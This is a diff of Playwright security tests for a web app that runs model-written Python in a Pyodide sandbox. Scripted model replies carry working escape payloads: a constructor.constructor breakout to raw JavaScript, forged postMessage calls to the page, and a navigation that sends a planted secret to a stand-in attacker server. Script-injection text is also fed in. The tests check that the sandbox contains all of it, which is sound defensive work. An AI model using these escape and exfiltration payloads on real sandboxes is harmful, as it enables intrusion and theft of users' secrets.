@@ -2,8 +2,10 @@
 import type { Page } from '@playwright/test';
 import { PLANTED, probes } from './probes';
 import { startAttackServer, type AttackServer } from './support/attack-server';
+import { fromDocument } from './support/frame-attacks';
 import { inPython, together, waysIn, waysOut } from './support/attacks';
 import { Burrow, expect, repl, test as base } from './support/burrow';
+import { HOSTILE_NAME, hostileText, intruders, watch } from './support/hostile-text';
 import { dump, plant } from './support/storage';
 
 const KEY = 'sk-planted-0a1b2c3d4e5f';
@@ -138,4 +140,188 @@ test('hostile Python reaches no server, nothing stored, no key and nobody on the
     expect(JSON.stringify([said, asked, printed, cells])).not.toContain(KEY);
     expect(await page.content()).not.toContain(KEY);
   });
+});
+
+/** JavaScript in the worker that has taken hold of its port to the page and does this with the next message. */
+const forged = (change: string) =>
+  repl(
+    [
+      'from pyodide.ffi import to_js',
+      `to_js([1]).constructor.constructor(${JSON.stringify(`
+        const post = MessagePort.prototype.postMessage;
+        MessagePort.prototype.postMessage = function (message) { ${change} };
+      `)})()`,
+      'llm_query("x")',
+    ].join('\n'),
+  );
+
+const asScript = (body: string) =>
+  repl(`from pyodide.ffi import to_js\nto_js([1]).constructor.constructor(${JSON.stringify(body)})()\nwhile True: pass`);
+
+test('a worker that breaks out of its part ends its run with a reason, and the next run works', async ({
+  attacker,
+  burrow,
+  models,
+  page,
+}) => {
+  test.setTimeout(120_000);
+  const call = `fetch(${JSON.stringify(`${attacker.http}/called`)})`;
+  const BREAKS = [
+    {
+      name: 'calls functions of the page through its port',
+      reply: forged(
+        `post.call(this, { id: '1', type: 'APPLY', path: ['constructor', 'constructor'], argumentList: [{ type: 'RAW', value: ${JSON.stringify(call)} }] });`,
+      ),
+      sentence: 'Python stopped working: it sent messages that are no answers.',
+    },
+    {
+      name: 'sends an outcome that fills the memory',
+      reply: forged(
+        `post.call(this, message.value instanceof Uint8Array ? { ...message, value: new Uint8Array(64e6) } : message);`,
+      ),
+      sentence: 'Python stopped working: it sent an outcome that is none.',
+    },
+    {
+      name: 'fails outside of every cell',
+      reply: asScript(`setTimeout(() => { throw new Error('out') }); postMessage('to the frame');`).replace(
+        'while True: pass',
+        'import time; time.sleep(30)',
+      ),
+      sentence: 'Python stopped working: its worker failed.',
+    },
+    {
+      name: 'closes itself',
+      reply: asScript('self.close()'),
+      sentence: 'Python stopped working: a cell went on past its time limit and could not be interrupted.',
+    },
+  ];
+  await burrow.open();
+  const heard = await listen(page);
+  await prepare(burrow, models.url);
+  await burrow.setLimit(/seconds of a cell/i, 1);
+  for (const { name, reply, sentence } of BREAKS) {
+    await test.step(name, async () => {
+      models.script([{ when: ({ lastUser }) => lastUser === 'x', reply: 'ok' }, { reply }]);
+      await burrow.ask(`What if it ${name}?`, choice);
+      await burrow.ended('failed');
+      await expect(burrow.answer).toContainText(sentence);
+    });
+  }
+  // Of all of it only the frame's own word that its worker failed came to the page.
+  expect(await heard()).toEqual(['failed']);
+  await attacker.fence(page);
+  expect(attacker.arrivals()).toEqual([]);
+  models.script([{ reply: SUBMIT }]);
+  await burrow.ask('Who built the mill?', choice);
+  await burrow.ended('answered');
+  await expect(burrow.answer).toContainText('Jan Visser');
+});
+
+test('even code in the sandbox’s own document sends no request, reads nothing and moves nothing', async ({
+  attacker,
+  burrow,
+  models,
+  page,
+}) => {
+  await burrow.open();
+  await plant(page, PLANTED);
+  const heard = await listen(page);
+  await prepare(burrow, models.url);
+  models.script([{ when: ({ lastUser }) => lastUser === 'wait', reply: { fault: 'silent' } }, { reply: repl('llm_query("wait")') }]);
+  await burrow.ask('Who built the mill?', choice);
+  await models.until(({ requests }) => requests.some(({ lastUser }) => lastUser === 'wait'));
+  const address = page.url();
+  const [, frame] = page.frames();
+  if (frame === undefined) throw new Error('There is no sandbox.');
+
+  const said: unknown = await frame.evaluate(`(() => { ${together(fromDocument(attacker.http, attacker.ws))} })()`);
+  const lines = JSON.stringify(said, null, 1);
+  for (const { name } of fromDocument(attacker.http, attacker.ws)) expect(lines).toContain(`"${name}: `);
+  for (const name of ['fetch', 'a softer policy', 'the page', 'the page’s address', 'storage', 'a database']) {
+    expect(lines).toContain(`"${name}: blocked`);
+  }
+  expect(lines).not.toContain(PLANTED.secret);
+  await frame.evaluate(`for (const word of ['stop', { id: '1', type: 'RAW', value: 1 }]) parent.postMessage(word, '*')`);
+  await expect(burrow.status).toContainText('running', { ignoreCase: true });
+
+  // The frame itself can be navigated away by such code: then the run is over, and no request left either.
+  await frame.evaluate(`void (location.href = ${JSON.stringify(`${attacker.http}/navigated?${PLANTED.secret}`)})`);
+  await burrow.ended('failed');
+  await expect(burrow.answer).toContainText('Python stopped working: its frame was navigated away.');
+  await attacker.fence(page);
+  // A browser may connect before it asks its policy; nothing is said over such a connection.
+  expect(attacker.arrivals().filter((what) => what !== 'connection')).toEqual([]);
+  expect(page.url()).toBe(address);
+  expect(await heard()).toEqual(['stop', { id: '1', type: 'RAW', value: 1 }]);
+});
+
+test('text from documents, models and file names is shown as text in every view', async ({ attacker, burrow, models, page }) => {
+  const text = hostileText(attacker.http);
+  const { ran, opened } = await watch(page);
+  const quote = `ran('script')`;
+  models.script([
+    {
+      when: ({ turn, lastUser }) => turn === 0 && lastUser !== 'read',
+      reply: `${text}\n\n${repl(`# ${text.replaceAll('\n', ' ')}\nprint(context)\nprint(llm_query("read"))\nx = context`)}`,
+    },
+    { when: ({ lastUser }) => lastUser === 'read', reply: text },
+    { reply: repl(`answer["content"] = "# " + context + str(cite(${JSON.stringify(quote)}))\nanswer["ready"] = True`) },
+  ]);
+  await burrow.connect(HOSTILE_NAME, models.url);
+  await burrow.corpus(HOSTILE_NAME, [{ name: `${HOSTILE_NAME}.txt`, text }]);
+  const names = { corpus: HOSTILE_NAME, root: HOSTILE_NAME, sub: HOSTILE_NAME };
+  const clean = async (where: string) => {
+    expect(await intruders(page), where).toEqual([]);
+    expect(await ran(), where).toEqual([]);
+    expect(opened, where).toEqual([]);
+    expect(attacker.arrivals(), where).toEqual([]);
+  };
+
+  await burrow.ask(text, { ...names, strategy: 'Recursive' });
+  await burrow.ended('answered');
+  await expect(burrow.answer).toContainText(`<script>${quote}</script>`);
+  await expect(burrow.answer.getByRole('region', { name: 'Quotations' })).toContainText(quote);
+  await expect(burrow.trace).toContainText(`<script>${quote}</script>`);
+  await clean('Ask');
+
+  await burrow.answer.getByRole('region', { name: 'Quotations' }).getByRole('link').first().click();
+  await expect(page.locator('mark')).toHaveText(quote);
+  await clean('Document');
+
+  const [run = ''] = await burrow.runIds();
+  await burrow.open(`#/run/${run}`);
+  const transcript = page.getByRole('region', { name: 'Transcript' });
+  await expect(transcript).toContainText(quote);
+  for (const folded of await transcript.locator('summary').all()) await folded.click();
+  await clean('Run');
+
+  for (const [route, shown] of [
+    ['#/library', HOSTILE_NAME],
+    ['#/models', HOSTILE_NAME],
+    ['#/runs', quote],
+    ['#/settings', 'Limits'],
+    [`#/${encodeURIComponent(HOSTILE_NAME)}`, 'Not found'],
+  ] as const) {
+    await burrow.open(route);
+    await expect(page.getByRole('main')).toContainText(shown);
+    await clean(route);
+  }
+  await burrow.open('#/runs');
+  await page.getByRole('button', { name: /^Delete the run/ }).click();
+  await expect(page.getByText('Deleted the run.')).toBeVisible();
+  await burrow.open('#/library');
+  await page.getByRole('button', { name: new RegExp(`^Delete a .*name$`) }).click();
+  await expect(page.getByText('Deleted “')).toBeVisible();
+  await clean('what was deleted');
+});
+
+test('a server that repeats the key in its refusal does not put it on the page or into storage', async ({ burrow, models, page }) => {
+  models.script([{ reply: { status: 401, error: { error: { message: `Incorrect API key provided: ${KEY}.` } } } }]);
+  await burrow.connect('Planner', models.url, { key: KEY });
+  await burrow.corpus('Notes', [NOTES]);
+  await burrow.ask('Who built the mill?', { corpus: 'Notes', strategy: 'Direct', root: 'Planner' });
+  await burrow.ended('failed');
+  await expect(burrow.answer).toContainText('Incorrect API key provided: [key].');
+  expect(await page.content()).not.toContain(KEY);
+  expect(await dump(page)).not.toContain(KEY);
 });
